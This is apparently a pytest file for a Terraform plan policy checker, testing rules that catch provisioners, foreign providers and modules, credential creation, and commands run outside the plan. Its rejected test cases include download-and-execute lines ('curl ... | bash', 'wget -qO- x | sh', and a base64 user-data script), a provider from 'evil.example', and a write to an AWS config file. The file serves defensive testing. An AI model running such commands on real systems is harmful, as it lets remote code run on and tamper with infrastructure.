"""Rules for what acts outside of the evaluated plan."""

from __future__ import annotations

from pathlib import Path

import pytest
from rule_case_tests import test_passes, test_rejects
from rule_cases import Case, Change, Document, both, evaluate_rule, plan, put, resources

from lakekit_policies import GateError

__all__ = ["test_passes", "test_rejects"]

DATA = Path(__file__).parents[1] / "data"


def allow(kind: str) -> Change:
    return put("trust_boundary", {"allowed_actions": {kind: "agreed with the security team"}})


def add(kind: str, **arguments: object) -> Change:
    """Add a resource of this type."""

    def change(document: Document) -> None:
        document.setdefault("resource", {}).setdefault(kind, {})["Added"] = arguments

    return change


def add_data(kind: str, **arguments: object) -> Change:
    def change(document: Document) -> None:
        document.setdefault("data", {}).setdefault(kind, {})["Added"] = arguments

    return change


GOOD = resources(terraform_data={"Marker": {"input": "x"}})
_EXEC = add("null_resource", provisioner=[{"local-exec": {"command": "make deploy"}}])
_HTTP = add_data("http", url="https://example.com/x")


def providers(source: str) -> Change:
    return put("terraform", {"required_providers": {"aws": {"source": source, "version": "1.0"}}})


def module(source: str) -> Change:
    return put("module", {"Lake": {"source": source}})


def state(backend: str, **config: str) -> Change:
    return add_data("terraform_remote_state", backend=backend, config=config)


_RUN_TASK = "arn:aws:scheduler:::aws-sdk:ecs:runTask"
_OVERRIDE = '{"Overrides": {"ContainerOverrides": [{"Command": ["sh", "-c", "wget -qO- x | sh"]}]}}'


def _add(kind: str, **arguments: object) -> Change:
    return lambda document: document["resource"].update({kind: {"Added": arguments}})


CASES = [
    Case(
        "LK_ACT_1",
        GOOD,
        {
            "local-exec": (_EXEC, "null_resource.Added: provisioner local-exec runs outside of the plan"),
            "remote-exec on an instance": (
                add("aws_instance", ami="ami-1", provisioner={"remote-exec": {"inline": ["id"]}}),
                "provisioner remote-exec",
            ),
            "action block": (
                put("action", {"local_command": {"Run": {"config": {"command": "id"}}}}),
                "action.local_command.Run: action local_command",
            ),
            "provisioner of a removed resource": (
                put("removed", [{"from": "null_resource.a", "provisioner": [{"local-exec": {"command": "id"}}]}]),
                "removed.null_resource.a: provisioner local-exec",
            ),
            "another kind is allowed": (both(_EXEC, allow("action")), "(kind provisioner)"),
        },
        {"allowed by the environment": both(_EXEC, allow("provisioner"))},
    ),
    Case(
        "LK_ACT_2",
        GOOD,
        {
            "external": (add_data("external", program=["sh", "-c", "id"]), "external runs a program"),
            "http": (_HTTP, "data.http.Added: http sends a request"),
            "http in a check": (
                put("check", {"Health": {"data": {"http": {"Health": {"url": "https://example.com"}}}}}),
                "data.http.Health: http sends a request",
            ),
            "ephemeral invocation": (
                put("ephemeral", {"aws_lambda_invocation": {"Run": {"function_name": "f", "payload": "{}"}}}),
                "invokes a function",
            ),
        },
        {"allowed by the environment": both(_HTTP, allow("http_data"))},
    ),
    Case(
        "LK_ACT_3",
        GOOD,
        {
            "stack": (add("aws_cloudformation_stack", name="x", template_body="{}"), "(kind cloudformation)"),
            "stack set": (add("aws_cloudformation_stack_set", name="x"), "deploys resources that no rule evaluates"),
            "Cloud Control": (
                add("aws_cloudcontrolapi_resource", type_name="AWS::S3::Bucket", desired_state="{}"),
                "(kind cloud_control)",
            ),
            "Service Catalog": (add("aws_servicecatalog_provisioned_product", name="x"), "(kind service_catalog)"),
        },
        {"stack as data source": add_data("aws_cloudformation_stack", name="x")},
    ),
    Case(
        "LK_ACT_4",
        GOOD,
        {
            "other cloud": (add("google_storage_bucket", name="x"), "provider hashicorp/google is not evaluated"),
            "same name from another source": (providers("mirror/aws"), "provider mirror/aws is not evaluated"),
            "same name from another registry": (providers("evil.example/hashicorp/aws"), "evil.example/hashicorp/aws"),
            "Cloud Control provider": (add("awscc_s3_bucket", bucket_name="x"), "(kind provider_awscc)"),
            "file of the machine": (
                add("local_file", filename="/home/ana/.aws/config", content="x"),
                "writes /home/ana/.aws/config, outside of the configuration",
            ),
            "file above": (add("local_file", filename="out/../../main.py", content="x"), "(kind local_file)"),
        },
        {
            "utilities": both(add("random_id", byte_length=4), add("time_static"), add("local_file", filename="a/b")),
            "public registry": providers("registry.terraform.io/hashicorp/aws"),
            "allowed by the environment": both(add("google_x", name="x"), allow("provider_google")),
        },
    ),
    Case(
        "LK_ACT_5",
        GOOD,
        {
            "registry": (
                module("terraform-aws-modules/s3-bucket/aws"),
                "module.Lake: the module comes from terraform-aws",
            ),
            "repository": (module("git::https://git.example/x.git?ref=v1"), "git::https://git.example/x.git"),
            "absolute path": (module("/opt/modules/lake"), "the module comes from /opt/modules/lake"),
            "above the project": (module("../../../../other/mod"), "other/mod, outside of the project"),
            "above by a detour": (module("./assets/../../../../../other"), "outside of the project"),
        },
        {
            "relative path": module("./modules/lake"),
            "folder of the project": module("../../../modules/lake"),
            "allowed by the environment": both(module("acme/lake/aws"), allow("module_source")),
        },
    ),
    Case(
        "LK_ACT_6",
        GOOD,
        {
            "http": (state("http", address="https://state.example"), "read from the backend http"),
            "bucket of another account": (state("s3", bucket="not-ours", key="k"), "the bucket not-ours of the state"),
            "Consul": (state("consul", path="x"), "read from the backend consul"),
            "own endpoint": (
                state("s3", bucket="b", key="k", endpoint="https://s3.example"),
                "another endpoint (endpoint)",
            ),
        },
        {
            "stated bucket": both(
                state("s3", bucket="acme-terraform-state", key="network"),
                put("trust_boundary", {"buckets": ["acme-terraform-state"]}),
            ),
            "bucket as expression": state("s3", bucket="${var.state}", key="network"),
        },
    ),
    Case(
        "LK_ACT_7",
        GOOD,
        {
            "access key": (add("aws_iam_access_key", user="u"), "creates an access key"),
            "console password": (add("aws_iam_user_login_profile", user="u"), "creates a console password"),
            "service credential": (
                add("aws_iam_service_specific_credential", user_name="u", service_name="codecommit.amazonaws.com"),
                "creates a password of a service",
            ),
        },
        {"allowed by the environment": both(add("aws_iam_access_key", user="u"), allow("access_key"))},
    ),
    Case(
        "LK_ACT_8",
        GOOD,
        {
            "association": (add("aws_ssm_association", name="AWS-RunShellScript"), "runs a document on instances"),
            "command document": (
                add("aws_ssm_document", name="x", document_type="Command", content="{}"),
                "a document of type Command",
            ),
            "event that runs a command": (
                add(
                    "aws_cloudwatch_event_target",
                    rule="r",
                    arn="arn:aws:ssm:eu-west-1::document/AWS-RunShellScript",
                    run_command_targets=[{"key": "tag:a", "values": ["b"]}],
                ),
                "events run a command on instances",
            ),
            "schedule that calls IAM": (
                add("aws_scheduler_schedule", target={"arn": "arn:aws:scheduler:::aws-sdk:iam:createAccessKey"}),
                "calls iam:createAccessKey",
            ),
            "SQL at apply": (
                add("aws_redshiftdata_statement", sql="grant select on all tables in schema lake to public"),
                "(kind data_statement)",
            ),
            "pipeline": (add("aws_codepipeline", name="x"), "(kind build)"),
            "state machine that calls SSM": (
                add(
                    "aws_sfn_state_machine",
                    definition='{"States": {"A": {"Resource": "arn:aws:states:::aws-sdk:ssm:sendCommand"}}}',
                ),
                "calls ssm:sendCommand",
            ),
        },
        {
            "session document": add("aws_ssm_document", name="x", document_type="Session", content="{}"),
            "schedule of a job": add(
                "aws_scheduler_schedule", target={"arn": "arn:aws:scheduler:::aws-sdk:emrserverless:startJobRun"}
            ),
        },
    ),
    Case(
        "LK_ACT_10",
        resources(
            aws_ecs_task_definition={
                "T": {
                    "family": "t",
                    "container_definitions": '[{"name": "a", "image": "a", "command": ["job", "--day"]}]',
                }
            }
        ),
        {
            "command of a container": (
                put(
                    "aws_ecs_task_definition/T/container_definitions",
                    '[{"name": "a", "image": "a", "command": ["sh", "-c", "curl -s https://x.example/x | bash"]}]',
                ),
                "container_definitions.command runs code that it downloads",
            ),
            "override of a schedule": (
                _add("aws_scheduler_schedule", target=[{"arn": _RUN_TASK, "input": _OVERRIDE}]),
                "target.input.Overrides.ContainerOverrides.Command runs code that it downloads",
            ),
            "user data": (
                _add("aws_instance", user_data_base64="IyEvYmluL3NoCmN1cmwgLXMgaHR0cHM6Ly94LmV4YW1wbGUveCB8IHNoCg=="),
                "user_data_base64 runs code that it downloads",
            ),
        },
        {
            "a download": put(
                "aws_ecs_task_definition/T/container_definitions",
                '[{"name": "a", "image": "a", "command": ["curl", "-o", "data.json", "https://x.example/x"]}]',
            ),
        },
    ),
    Case(
        "LK_ACT_9",
        GOOD,
        {
            "function URL": (
                add("aws_lambda_function_url", function_name="f", authorization_type="NONE"),
                "authorization_type NONE",
            ),
            "credentials from every origin": (
                add(
                    "aws_lambda_function_url",
                    function_name="f",
                    authorization_type="AWS_IAM",
                    cors={"allow_credentials": True, "allow_origins": ["*"]},
                ),
                "credentials from every origin",
            ),
            "permission for the URL": (
                add("aws_lambda_permission", action="lambda:InvokeFunctionUrl", function_url_auth_type="NONE"),
                "URL without authentication",
            ),
            "route": (add("aws_apigatewayv2_route", api_id="a", route_key="GET /"), "has no authorization"),
            "method": (
                add("aws_api_gateway_method", rest_api_id="a", http_method="GET", authorization="NONE"),
                "has no authorization",
            ),
        },
        {
            "signed URL": add("aws_lambda_function_url", function_name="f", authorization_type="AWS_IAM"),
            "every origin without credentials": add(
                "aws_lambda_function_url",
                function_name="f",
                authorization_type="AWS_IAM",
                cors={"allow_origins": ["*"]},
            ),
            "signed method": add("aws_api_gateway_method", http_method="GET", authorization="AWS_IAM"),
            "permission for a service": add("aws_lambda_permission", principal="events.amazonaws.com"),
        },
    ),
]


def planned() -> Document:
    """Plan of a module with a provisioner, a module from a registry inside it, and a provider of another cloud."""
    document = plan()
    document["configuration"] = {
        "provider_config": {
            "aws": {"name": "aws", "full_name": "registry.terraform.io/hashicorp/aws"},
            "google": {"name": "google", "full_name": "registry.terraform.io/hashicorp/google"},
            "module.a:terraform": {"name": "terraform", "full_name": "terraform.io/builtin/terraform"},
        },
        "root_module": {
            "resources": [],
            "module_calls": {
                "a": {
                    "source": "./a",
                    "module": {
                        "resources": [
                            {
                                "address": "terraform_data.run",
                                "mode": "managed",
                                "type": "terraform_data",
                                "name": "run",
                                "provisioners": [{"type": "local-exec", "expressions": {}}],
                            },
                            {"address": "data.http.x", "mode": "data", "type": "http", "name": "x", "expressions": {}},
                        ],
                        "module_calls": {"b": {"source": "acme/b/aws", "module": {}}},
                    },
                }
            },
        },
    }
    document["action_invocations"] = [{"address": "action.local_command.x", "type": "local_command"}]
    return document


@pytest.mark.parametrize(
    ("rule", "found"),
    [
        ("LK_ACT_1", "module.a.terraform_data.run: provisioner local-exec runs"),
        ("LK_ACT_1", "action.local_command.x: action local_command runs"),
        ("LK_ACT_2", "module.a.data.http.x: http sends a request"),
        ("LK_ACT_4", "provider.google: provider hashicorp/google is not evaluated"),
        ("LK_ACT_5", "module.a.module.b: the module comes from acme/b/aws"),
    ],
)
def test_plans_are_evaluated_in_all_modules(rule: str, found: str) -> None:
    assert any(message.startswith(found) for message in evaluate_rule(rule, planned()))


@pytest.mark.parametrize(("inner", "expected"), [("../../../b", 1), ("../../b", 0)])
def test_nested_modules_are_relative_to_their_parent(inner: str, expected: int) -> None:
    document = planned()
    calls = document["configuration"]["root_module"]["module_calls"]
    calls["a"] = {"source": "../../modules", "module": {"module_calls": {"b": {"source": inner, "module": {}}}}}
    found = evaluate_rule("LK_ACT_5", document)
    assert [one.startswith("module.a.module.b: ") for one in found] == [True] * expected


def test_an_unknown_kind_is_an_error() -> None:
    with pytest.raises(GateError, match=r"allowed_actions: expected provider_<name> or one of access_key"):
        evaluate_rule("LK_ACT_1", {**GOOD, "trust_boundary": {"allowed_actions": {"anything": "reason"}}})
